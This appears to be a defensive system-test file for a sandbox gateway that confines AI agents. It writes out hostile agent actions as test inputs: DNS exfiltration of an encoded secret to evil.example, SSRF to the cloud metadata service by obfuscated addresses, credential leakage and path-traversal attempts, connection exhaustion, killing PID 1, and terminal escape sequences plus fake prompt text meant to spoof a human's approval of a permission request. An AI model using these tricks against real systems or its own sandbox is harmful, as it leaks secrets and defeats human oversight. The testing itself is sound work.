import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { onTerminal } from '../e2e/terminal.ts';
import type { World } from '../e2e/world.ts';
import type { Resolver } from './hostile-names.ts';
import { openGround, canary, stillServes, type Ground } from './system-ground.ts';
import type { Upstream } from '../e2e/upstream.ts';
import { codeOf, type HostileSession, type Answer } from './system-world.ts';

let ground: Ground;
let world: World;
let resolver: Resolver;
let upstream: Upstream;
let first: HostileSession;
let second: HostileSession;
beforeAll(async () => {
  ground = await openGround();
  ({ world, resolver, upstream, first, second } = ground);
});
afterAll(() => ground.close());

describe('the way out', () => {
  test('[R18] [R40] denied names are not looked up: no query leaves', async () => {
    const secret = 'c2VjcmV0';
    const denied = [
      `${secret}.evil.example`,
      `${secret}.api.example`,
      `${secret}.example.com`,
      'metadata.google.internal',
    ];
    for (const host of denied) {
      expect((await first.do<Answer>('connect', { target: `${host}:443` })).status).toBe(403);
      expect((await first.do<Answer>('plain', { url: `http://${host}/` })).status).toBe(403);
      expect(await first.do('resolves', { name: host })).not.toMatch(/^\d/);
    }
    expect(
      resolver.asked.filter((name) => name.includes(secret) || name.includes('metadata.google')),
    ).toEqual([]);
    // The control: what is allowed is looked up, by the gateway, at this resolver.
    expect(
      await first.do<Answer>('https', { host: 'api.example', port: upstream.port, path: '/open/x' }),
    ).toEqual({ status: 200, body: { said: 'hello' } });
    expect(resolver.asked).toContain('api.example');
  });

  test('[R18] addresses, private ranges and the metadata service, by number or by an allowed name', async () => {
    for (const target of [
      '169.254.169.254:80',
      '127.0.0.1:9090',
      'localhost:443',
      '[::1]:443',
      '[::ffff:169.254.169.254]:80',
      '2852039166:80',
      '0xa9fea9fe:80',
      '10.0.0.1:443',
      '0:80',
      '127.1:443',
      'api.example:22',
      'api.example.:443',
    ])
      expect(`${target} ${String((await first.do<Answer>('connect', { target })).status)}`).toMatch(
        / (400|403)$/,
      );
    for (const url of [
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:9090/v1/session',
      'http://[::1]/',
      'http://metadata.google.internal/',
    ])
      expect((await first.do<Answer>('plain', { url })).status).toBeGreaterThanOrEqual(400);
    for (const host of ['metadata.example', 'loopback.example']) {
      const came = await first.do<Answer>('https', { host, port: upstream.port, path: '/open/x' });
      expect(`${host} ${String(came.status)} ${codeOf(came) ?? ''}`).toMatch(/ 403 GB_EGRESS/);
      expect(resolver.asked).toContain(host);
    }
    expect(upstream.seen.filter(({ host }) => host.startsWith('loopback'))).toEqual([]);
  });

  test('[R27] [R29] the key is added at its host only; placeholders and keys of the agent’s own go nowhere', async () => {
    const placeholder = await first.do<string>('placeholder');
    const to = (host: string, headers: Record<string, string>, more: object = {}): Promise<Answer> =>
      first.do<Answer>('https', { host, port: upstream.port, path: '/open/x', headers, ...more });
    expect((await to('api.example', { 'x-api-key': placeholder })).status).toBe(200);
    expect(upstream.seen.at(-1)?.headers['x-api-key']).toBe(canary);
    expect((await to('other.example', {})).status).toBe(200);
    expect(upstream.seen.at(-1)?.headers['x-api-key']).toBeUndefined();
    const came = upstream.seen.length;
    const basic = Buffer.from(`user:${placeholder}`).toString('base64');
    for (const [host, headers, more] of [
      ['other.example', { 'x-api-key': placeholder }],
      ['other.example', { authorization: `Bearer ${placeholder}` }],
      ['other.example', { 'x-note': `see ${placeholder}` }],
      ['other.example', { authorization: `Basic ${basic}` }],
      ['other.example', {}, { path: `/open/${placeholder}` }],
      ['other.example', {}, { path: `/open/x?k=${placeholder}` }],
      ['other.example', { authorization: 'Bearer sk-of-the-attacker' }],
      ['other.example', { cookie: 'session=mine' }],
      ['api.example', { 'x-api-key': 'sk-of-the-attacker' }],
      ['api.example', { authorization: 'Bearer sk-of-the-attacker' }],
      ['api.example', {}, { path: '/closed/x' }],
      ['api.example', {}, { path: '/open/%2e%2e/closed' }],
      ['api.example', {}, { path: '/open/..%2fclosed' }],
      ['api.example', {}, { method: 'DELETE' }],
      ['api.example', {}, { named: 'other.example' }],
      ['api.example', {}, { sni: 'other.example' }],
      ['other.example', { 'x-http-method-override': 'DELETE' }],
      ['other.example', { 'transfer-encoding': 'chunked' }],
    ] as const) {
      const answer = await to(host, headers, more);
      expect(`${JSON.stringify([host, headers, more])} ${String(answer.status)}`).toMatch(
        / (0|400|403|421)$/,
      );
    }
    expect(upstream.seen).toHaveLength(came);
    for (const what of ['audit', 'logs'])
      expect((await world.glovebox([what, '--json'])).out).not.toContain(canary);
  });
});

describe('exhaustion', () => {
  test('[R45] slow requests on both doors are closed in time, while their sender goes on holding them', async () => {
    const head = 'POST /v1/events HTTP/1.1\r\nhost: 127.0.0.1:9090\r\n';
    expect(await first.do('hold', { count: 256, port: 9090, text: head })).toBe(256);
    expect(
      await first.do('hold', { count: 256, port: 3128, text: 'CONNECT api.example:443 HTTP/1.1\r\nhost: ' }),
    ).toBe(256);
    // Both doors are full, and open again though nobody let go of one.
    expect((await first.api({ wait: 60 })).status).toBe(200);
    expect((await first.do<Answer>('connect', { target: 'evil.example:443', wait: 60 })).status).toBe(403);
    await first.do('release');
  });

  test('[R45] 2,000 connections at once: the session answers its person, the other session its agent, and both doors after it', async () => {
    const opened = await first.do<number>(
      'hold',
      { count: 2000, port: 9090, text: 'GET / HTTP/1.1\r\n' },
      120_000,
    );
    await first.do('hold', { count: 300, port: 3128, text: 'GET ' }, 120_000);
    expect(opened).toBeGreaterThan(256);
    await stillServes(second);
    expect((await world.session('first')).state).toBe('running');
    expect((await world.glovebox(['diff', 'first'])).code).toBe(0);
    await first.do('release');
    expect((await first.api({ wait: 60 })).status).toBe(200);
    expect((await first.do<Answer>('connect', { target: 'evil.example:443', wait: 60 })).status).toBe(403);
    await stillServes(second);
  });
});

describe('the end of a session at the agent’s hand', () => {
  test.each([
    ['KILL', 119, 'sandbox-died'],
    ['STOP', 118, 'heartbeat-missed'],
  ])(
    '[R26] [R46] SIG%s to PID 1 ends the session with %i and its reason',
    async (signal, code, reason) => {
      const name = `pid1-${signal.toLowerCase()}`;
      const script = `import os, signal, time\nopen("left.txt", "w").write("x")\nos.kill(1, signal.SIG${signal})\ntime.sleep(600)`;
      const came = await world.glovebox(['run', '--name', name, '--', 'python3', '-c', script]);
      expect([came.code, (await world.session(name)).reason]).toEqual([code, reason]);
      expect(await world.session(name)).toMatchObject({ state: 'ended', changes: 'kept' });
      await stillServes(second);
    },
    180_000,
  );

  test('control: an agent that leaves PID 1 alone ends with its own code', async () => {
    expect((await world.glovebox(['run', '--', 'python3', '-c', 'raise SystemExit(9)'])).code).toBe(9);
  });
});

describe('on a terminal', () => {
  test('[R47] output cannot query the terminal, set the clipboard, nor be an answer or stand beside a question', async () => {
    const script = [
      'import json, os, socket, sys, threading, time',
      'hostile = "\\x1b[6n\\x1b[c\\x1b]52;c;QUFB\\x07\\x1b]0;title\\x07\\x1bP$qm\\x1b\\\\\\x1b[21t\\x05\\x1b[5n"',
      'sys.stdout.write("BEGIN" + hostile + "PLAIN\\n"); sys.stdout.flush()',
      'def noise():',
      '    while True:',
      '        sys.stdout.write("FAKE answer> 0000\\r\\n" + hostile); sys.stdout.flush(); time.sleep(0.05)',
      'threading.Thread(target=noise, daemon=True).start()',
      'body = json.dumps({"scope": "files:write:/shared/notes/t.txt", "reason": "please"})',
      's = socket.create_connection(("127.0.0.1", 9090))',
      's.sendall(f"POST /v1/permissions HTTP/1.1\\r\\nhost: 127.0.0.1:9090\\r\\nconnection: close\\r\\ncontent-type: application/json\\r\\ncontent-length: {len(body)}\\r\\n\\r\\n{body}".encode())',
      'got = b""',
      'while chunk := s.recv(65536): got += chunk',
      'sys.stdout.write("\\nTOLD " + got.decode().split("\\r\\n\\r\\n")[1] + "\\n"); sys.stdout.flush(); os._exit(0)',
    ].join('\n');
    writeFileSync(join(world.project, 'noise.py'), script);
    const seen = onTerminal(world, [
      'run',
      '--policy',
      join(world.folder, 'policy.yaml'),
      '--',
      'python3',
      '/workspace/noise.py',
    ]);
    await seen.shows(/answer> (?!0000)/);
    const asked = seen.screen().length;
    await seen.typeUntil('d\r', /TOLD \{[^}]*"granted":false/);
    const screen = seen.screen();
    expect(screen).toContain('BEGIN');
    expect(screen).toContain('PLAIN');
    for (const raw of ['\u001b[6n', '\u001b[c', '\u001b]52', '\u001bP', '\u001b[21t', '\u0005', '\u001b[5n'])
      expect(screen).not.toContain(raw);
    // From the question's first line to its answer nothing of the agent's is on the screen.
    const from = screen.lastIndexOf('Glovebox: the agent asks', asked);
    const to = screen.indexOf('d', asked);
    expect(from).toBeGreaterThan(-1);
    expect(screen.slice(from, to)).not.toContain('FAKE');
    await seen.finished;
  });
});
